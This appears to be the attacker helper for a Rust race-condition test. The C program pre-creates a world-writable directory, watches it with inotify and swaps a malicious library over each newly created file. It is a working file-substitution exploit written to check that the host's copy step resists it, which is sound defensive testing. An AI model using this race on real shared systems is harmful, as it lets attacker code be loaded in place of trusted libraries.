/* The attacker of tests/copy_race.rs, a separate process: creates the
 * directory DIR (argv[1]) open to everyone before the host does, watches
 * it with inotify, and the moment a file appears there renames its own
 * library EVIL (argv[2]) over it. Prints "ready" once it is watching. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static int copy(const char *from, const char *to) {
    char buf[65536];
    int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    ssize_t n;
    if (in < 0 || out < 0) return -1;
    while ((n = read(in, buf, sizeof buf)) > 0) {
        if (write(out, buf, (size_t)n) != n) return -1;
    }
    close(in);
    close(out);
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    const char *dir = argv[1], *evil = argv[2];
    mkdir(dir, 0777);
    chmod(dir, 0777);
    int watch = inotify_init();
    if (watch < 0 || inotify_add_watch(watch, dir, IN_CREATE) < 0) return 1;
    puts("ready");
    fflush(stdout);
    char events[sizeof(struct inotify_event) + NAME_MAX + 1] __attribute__((aligned(8)));
    char staged[PATH_MAX], target[PATH_MAX];
    for (;;) {
        ssize_t n = read(watch, events, sizeof events);
        if (n <= 0) return 1;
        for (char *p = events; p < events + n;) {
            const struct inotify_event *e = (const struct inotify_event *)p;
            p += sizeof *e + e->len;
            if (e->len == 0 || strstr(e->name, ".evil")) continue;
            snprintf(staged, sizeof staged, "%s/%s.evil", dir, e->name);
            snprintf(target, sizeof target, "%s/%s", dir, e->name);
            if (copy(evil, staged) == 0) rename(staged, target);
        }
    }
}
